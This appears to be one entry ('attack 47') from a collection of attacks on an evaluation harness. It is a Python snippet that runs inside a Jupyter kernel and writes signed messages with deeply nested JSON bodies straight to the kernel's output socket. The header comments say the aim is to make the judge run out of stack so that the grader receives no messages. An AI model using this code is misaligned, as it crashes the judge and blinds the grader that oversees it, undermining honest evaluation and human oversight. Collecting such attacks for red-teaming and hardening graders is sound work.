# attack: 47
# title: a message nested a hundred thousand times
# success: the judge runs out of stack
# unshown: the naive grader receives no messages
kernel = get_ipython().kernel
raw = kernel.iopub_thread.socket
parent = kernel.get_parent("shell")
for body in (b"[" * 100_000, b"[" * 100_000 + b"]" * 100_000, b'{"a":' * 50_000, b"9" * 9999):
    message = kernel.session.msg("stream", {}, parent=parent)
    parts = [kernel.session.pack(message[k]) for k in ("header", "parent_header")]
    parts += [b"{}", body]
    raw.send_multipart([b"x", b"<IDS|MSG>", kernel.session.sign(parts), *parts])
